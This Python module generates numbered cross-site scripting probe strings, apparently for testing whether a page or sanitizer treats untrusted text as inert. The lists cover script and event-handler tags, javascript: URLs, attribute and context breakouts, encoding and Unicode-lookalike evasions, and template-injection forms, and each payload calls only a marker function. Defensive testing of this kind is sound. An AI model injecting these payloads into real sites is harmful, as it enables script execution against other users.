"""Texts that would run, restyle or lead away, if a page took them for anything but text. Each calls `ran` with its number."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import count, islice
from typing import Final

TAGS: Final = """
<script>{}</script>
<ScRiPt>{}</sCrIpT>
<script src=data:text/javascript,{}></script>
<script/x>{}</script>
<svg/onload={}>
<svg><script>{}</script></svg>
<svg><script href=data:,{} />
<svg><animate onbegin={} attributeName=x dur=1s>
<svg><set onbegin={} attributeName=x>
<svg><a xlink:href=javascript:{}><text y=9>x
<svg><use href=data:image/svg+xml,{}>
<svg><style><img src=x onerror={}>
<svg><foreignObject><body onload={}>
<math><mi xlink:href=javascript:{}>x
<math><mtext><img src=x onerror={}>
<math><annotation-xml encoding=text/html><img src=x onerror={}>
<img src=x onerror={}>
<img/src=x/onerror={}>
<img src=x:x onerror={} //
<image src=x onerror={}>
<body onload={}>
<body onpageshow={}>
<input autofocus onfocus={}>
<select autofocus onfocus={}>
<textarea autofocus onfocus={}>
<keygen autofocus onfocus={}>
<details open ontoggle={}>x
<dialog open onclose={}>x
<video src=x onerror={}>
<video><source onerror={}>
<audio src=x onerror={}>
<iframe srcdoc="<script>parent.{}</script>">
<iframe src=javascript:parent.{}>
<iframe onload={}>
<object data=javascript:{}>
<object data=x onerror={}>
<embed src=javascript:{}>
<a href=javascript:{}>x</a>
<a href=" &#1; javascript:{}">x</a>
<a href=jav&#x09;ascript:{}>x</a>
<form action=javascript:{}><button autofocus>x
<button formaction=javascript:{} form=x>x
<meta http-equiv=refresh content="0;url=javascript:{}">
<meta http-equiv=refresh content="0;url=/leave?{}">
<base href=javascript:{}//>
<link rel=stylesheet href=data:text/css,{}>
<link rel=import href=data:text/html,{}>
<style>*{{background:url(javascript:{})}}</style>
<style onload={}></style>
<div style="background:url(javascript:{})">x
<div style=animation-name:x onanimationstart={}>
<marquee onstart={}>x
<isindex action=javascript:{} type=image>
<template><script>{}</script></template>
<noscript><p title="</noscript><img src=x onerror={}>">
<p title="--><img src=x onerror={}>
<listing>&lt;img src=x onerror={}&gt;</listing>
<xmp><img src=x onerror={}></xmp>
<table><td background=javascript:{}>
<frameset onload={}>
""".strip().splitlines()
BREAKS: Final = """
" autofocus onfocus={} x="
' autofocus onfocus={} x='
` autofocus onfocus={} x=`
"><img src=x onerror={}>
'><img src=x onerror={}>
</textarea><img src=x onerror={}>
</title><img src=x onerror={}>
</option></select><img src=x onerror={}>
</template><img src=x onerror={}>
</script><script>{}</script>
</style><script>{}</script>
--><script>{}</script>
]]><script>{}</script>
<!--><script>{}</script>
<![CDATA[><script>{}</script>]]>
";{};//
';{};//
\\";{};//
\\u003cscript>{}\\u003c/script>
\\x3cscript>{}\\x3c/script>
%3Cscript%3E{}%3C/script%3E
&lt;script&gt;{}&lt;/script&gt;
&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;
&#60;script&#62;{}&#60;/script&#62;
&#x3c;img src=x onerror={}&#x3e;
javascript:{}
JaVaScRiPt&colon;{}
data:text/html,<script>{}</script>
vbscript:{}
{{{{{}}}}}
{{{{ {}|safe }}}}
{{% include "x" %}}{}
{{# {} #}}
${{{}}}
#{{{}}}
<%= {} %>
[[{}]]
{{{{constructor.constructor('{}')()}}}}
＜script＞{}＜/script＞
‹script›{}‹/script›
<ſcript>{}</ſcript>
<scrıpt>{}</scrıpt>
\u202e<script>{}</script>
\u200b<script>\u200b{}</script>
\u2028<img src=x onerror={}>
<img src=x\u00a0onerror={}>
;}}*{{background:url(javascript:{})}}
expression({})
@import 'data:text/css,{}';
END:VEVENT BEGIN:VEVENT SUMMARY:{}
","text":"{}
""".strip("\n").split("\n")
TURNS: Final[tuple[Callable[[str], str], ...]] = (
    lambda text: text,
    lambda text: f'">{text}',
    lambda text: f"'>{text}",
    lambda text: f"</p></div>{text}",
    lambda text: text.replace("<", "<\t", 1),
    lambda text: text.replace("=", " = ", 1),
    lambda text: f"{text}<!--",
)


def payloads(wanted: int) -> list[str]:
    """So many different ones, the plainest first."""
    return list(islice(_all(), wanted))


def _all() -> Iterator[str]:
    numbers = count()
    for around in count():
        for turn in TURNS:
            for shape in (*TAGS, *BREAKS):
                number = next(numbers)
                yield f"{around or ''}{turn(shape.format(f'ran({number})'))}"
